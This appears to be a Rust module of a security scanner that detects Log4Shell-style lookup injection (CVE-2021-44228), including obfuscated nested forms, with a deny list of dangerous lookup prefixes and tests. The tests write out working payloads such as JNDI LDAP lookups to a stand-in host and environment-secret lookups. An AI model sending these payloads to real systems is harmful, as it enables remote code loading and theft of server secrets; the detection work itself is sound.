//! Lookups that loggers and templates evaluate: `${jndi:ldap://...}` (CVE-2021-44228), also spelled with nested lookups.

use crate::bytes::{cut, find, has, tail};
use crate::candidate::{Candidate, Found};
use crate::confidence::Confidence;

/// Lookups that load code or disclose data of the server.
const NAMES: &[(&str, &str)] = &[
    ("${jndi:", "a lookup that loads code (JNDI)"),
    ("${env:", "a lookup of environment variables"),
    ("${sys:", "a lookup of system properties"),
    ("${java:", "a lookup of system properties"),
    ("${script:", "a lookup that runs a script"),
    ("${dns:address", "a lookup that queries DNS"),
    ("${url:utf", "a lookup that fetches a URL"),
    ("${docker:", "a lookup of environment variables"),
    ("${k8s:", "a lookup of environment variables"),
    ("${kubernetes:", "a lookup of environment variables"),
    ("${spring:", "a lookup of system properties"),
    ("${ctx:", "a lookup of the logger's context"),
    ("${main:", "a lookup of command line arguments"),
    ("${lower:", "a lookup that a logger evaluates"),
    ("${upper:", "a lookup that a logger evaluates"),
    ("${bundle:", "a lookup of system properties"),
    ("${file:", "a lookup that reads a file"),
    ("${const:", "a lookup of constants"),
    ("${base64:", "a lookup that decodes"),
];

/// Inspects one variant.
pub(crate) fn detect(candidate: &Candidate<'_>) -> Found {
    let value = candidate.bytes;
    let start = find(value, "${")?;
    let flat = flatten(tail(value, start)).to_ascii_lowercase();
    let (_, reason) = NAMES.iter().find(|(name, _)| has(&flat, name))?;
    Some((Confidence::High, reason))
}

/// Evaluates nested lookups such as `${lower:j}`, `${::-j}` and `${env:X:-j}`, innermost first.
fn flatten(value: &[u8]) -> Vec<u8> {
    /// No logger nests deeper.
    const MAX_DEPTH: usize = 64;
    let mut text = value.to_vec();
    for _ in 0..MAX_DEPTH {
        let Some((start, end)) = innermost(&text) else { break };
        let (outer, rest) = cut(&text, start);
        // The outermost lookup is the one to judge.
        if !has(outer, "${") {
            break;
        }
        let inner = rest.get(2..end - start).unwrap_or_default();
        let value = match (find(inner, ":-"), find(inner, ":")) {
            (Some(at), _) => tail(inner, at + 2).to_vec(),
            (None, Some(at)) => tail(inner, at + 1).to_vec(),
            (None, None) => Vec::new(),
        };
        text.splice(start..=end, value);
    }
    text
}

/// The first `}`, and the `${` that it closes.
fn innermost(text: &[u8]) -> Option<(usize, usize)> {
    let end = text.iter().position(|b| *b == b'}')?;
    let start = memchr::memmem::rfind(text.get(..end)?, b"${")?;
    Some((start, end))
}

#[cfg(test)]
mod tests {
    use crate::Class::Lookup;
    use crate::Confidence::*;
    use crate::testing::{finds, passes};

    #[test]
    fn attacks_are_found() {
        finds(
            Lookup,
            High,
            &[
                "${jndi:ldap://evil.test/a}",
                "${JNDI:rmi://evil.test}",
                "${${lower:j}ndi:ldap://x}",
                "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
                "${${env:X:-j}ndi:dns://x}",
                "x ${env:SECRET} y",
                "${sys:user.home}",
                "${script:javascript:1}",
                "%24%7Bjndi:ldap://x%7D",
            ],
        );
    }

    #[test]
    fn honest_neighbours_pass() {
        passes(
            Lookup,
            &["${name}", "${X:-default}", "${user.name:upper}", "jndi:ldap://x", "price: $5 {net}"],
        );
    }

    #[test]
    fn nested_lookups_are_evaluated() {
        for (value, expected) in [
            ("${a:${b:c}d}", "${a:cd}"),
            ("${${::-j}${upper:n}di:x}", "${jndi:x}"),
            ("${a${b}c}", "${ac}"),
            ("${open ${a:b", "${open ${a:b"),
        ] {
            assert_eq!(String::from_utf8_lossy(&super::flatten(value.as_bytes())), expected, "{value}");
        }
    }
}
